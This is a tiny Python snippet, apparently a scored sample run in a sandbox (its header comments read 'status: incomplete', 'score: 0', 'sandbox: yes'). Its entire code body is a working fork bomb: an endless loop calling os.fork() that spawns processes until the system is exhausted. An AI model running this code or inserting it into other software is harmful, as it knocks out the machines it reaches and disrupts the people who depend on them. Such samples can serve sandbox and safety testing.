# status: incomplete
# score: 0
# sandbox: yes
import os

while True:
    os.fork()
